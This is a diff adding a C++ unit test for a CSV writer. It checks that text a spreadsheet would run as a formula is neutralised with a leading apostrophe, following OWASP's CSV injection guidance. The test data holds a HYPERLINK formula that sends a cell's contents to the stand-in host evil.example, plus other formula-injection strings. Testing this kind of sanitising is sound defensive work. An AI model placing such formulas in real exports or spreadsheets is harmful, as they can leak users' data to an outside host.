@@ -42,6 +42,22 @@ TEST(WriteCsvTest, SwedishConventionsUseSemicolonAndDecimalComma) {
   EXPECT_THROW(WriteCsv(SmallTable(), out, {',', true}), Error);
 }
 
+// OWASP's CSV injection: text that a spreadsheet would run as a formula gets an apostrophe in
+// front, in cells and column names; numbers, negative ones too, stay as they are.
+TEST(WriteCsvTest, TextThatASpreadsheetWouldRunAsAFormulaIsNeutralised) {
+  const Table table({Column::CategoricalFromStrings(
+                         "grupp", {"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"klicka\")",
+                                   "+1+1", "@SUM(A1)", "-2+3", "\t=1", "-3,5", "vanlig"}),
+                     Column::Double("=skattning", {-2.5, 1, 2, 3, 4, 5, 6}),
+                     Column::Int64("n", {-7, 1, 2, 3, 4, 5, 6})});
+  std::ostringstream out;
+  WriteCsv(table, out, {';', true});
+  EXPECT_EQ(out.str(),
+            "grupp;'=skattning;n\n"
+            "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"klicka\"\")\";-2,5;-7\n"
+            "'+1+1;1;1\n'@SUM(A1);2;2\n'-2+3;3;3\n'\t=1;4;4\n-3,5;5;5\nvanlig;6;6\n");
+}
+
 TEST(WriteJsonTest, WritesAnArrayOfRowObjectsKeyedByColumnName) {
   std::ostringstream out;
   WriteJson(Table({Column::CategoricalFromStrings("kon", {"K"}), Column::Int64("n", {5}),
